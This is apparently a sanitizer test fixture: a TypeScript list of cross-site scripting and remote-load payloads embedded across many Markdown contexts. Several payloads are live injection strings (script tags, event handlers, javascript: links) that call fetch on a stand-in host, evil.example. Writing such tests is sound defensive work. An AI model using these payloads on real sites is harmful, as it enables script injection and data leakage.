// What pages were attacked with, in every place of Markdown that a text can stand in. Each would set `hit`, open a dialog,
// or ask another host, if it were ever run, drawn or followed.

const HOST = 'https://evil.example'
const RUN = "self.hit=1;fetch('//evil.example/x')"

const HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${HOST}/x.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT >`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${HOST}/pixel.png">`,
  `<img srcset="${HOST}/a.png 1x, ${HOST}/b.png 2x">`,
  `<svg onload="${RUN}"><circle r=9></svg>`,
  `<svg><use href="${HOST}/x.svg#a"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="${HOST}"></iframe>`,
  `<object data="${HOST}/x.swf"></object>`,
  `<embed src="${HOST}/x">`,
  `<link rel=stylesheet href="${HOST}/x.css">`,
  `<link rel=preload as=image href="${HOST}/x.png">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<base href="${HOST}/">`,
  `<form action="${HOST}"><button autofocus>go</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src="${HOST}/v.mp4" poster="${HOST}/p.png" autoplay></video>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}" autoplay></audio>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<style>@import url(${HOST}/x.css);body{background:url(${HOST}/b.png)}</style>`,
  `<p style="background:url(${HOST}/p.png)">x</p>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `"><img src=x onerror="${RUN}">`,
  `'-${RUN}-'`,
  `</title></textarea></style></script><img src=x onerror="${RUN}">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<img src=x onerror="${RUN}"`,
  `<img/src="x"/onerror="${RUN}">`,
  `&lt;img src=x onerror=&quot;${RUN}&quot;&gt;`,
]
const MARKDOWN: readonly string[] = [
  `![x](${HOST}/pixel.png)`,
  `![x][ref]\n\n[ref]: ${HOST}/ref.png`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:x)`,
  `<javascript:${RUN}>`,
  `${HOST}/autolink?secret=1`,
  `[![x](${HOST}/i.png)](${HOST})`,
  `[1](${HOST})[2](javascript:${RUN})`,
]

/** Places of a text: each gives a block of its own. */
const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `**${payload}**`,
  (payload) => `- item ${payload}\n- next`,
  (payload) => `> said ${payload}`,
  (payload) => `## ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll('|', '\\|').replaceAll('\n', ' ')} | c |`,
  (payload) => `\`${payload}\``,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `[${payload}](https://example.com "${payload.replaceAll('"', '')}")`,
  (payload) => `![${payload}](x.png)`,
  (payload) => `A claim [1] ${payload} [2]`,
  (payload) => `~~${payload}~~ and *${payload}*`,
  (payload) => `1. ${payload}\n   ${payload}`,
  (payload) => `Text[^n]\n\n[^n]: ${payload}`,
  (payload) => `<div>\n\n${payload}\n\n</div>`,
  (payload) => `<span title="${payload}">`,
  (payload) => `\u202e${payload}\u202c 😀`,
  (payload) => `- [ ] ${payload}`,
  (payload) => `***\n${payload}\n===`,
  (payload) => `\\${payload}`,
  (payload) => `    ${payload}`,
]

/** More than a thousand texts. */
export const PAYLOADS: readonly string[] = PLACES.flatMap((place) => [...HTML, ...MARKDOWN].map(place))

/** Those that fit on one line: for names and titles. */
export const ONE_LINE: readonly string[] = [...HTML, ...MARKDOWN.filter((payload) => !/[\n\t]/.test(payload))]

/** In pieces of 1 to 7 characters, the same every time. */
export function* inPieces(text: string): Generator<string> {
  const signs = [...text]
  let seed = signs.length
  for (let at = 0; at < signs.length; ) {
    seed = (seed * 48_271) % 2_147_483_647
    const length = 1 + (seed % 7)
    yield signs.slice(at, at + length).join('')
    at += length
  }
}
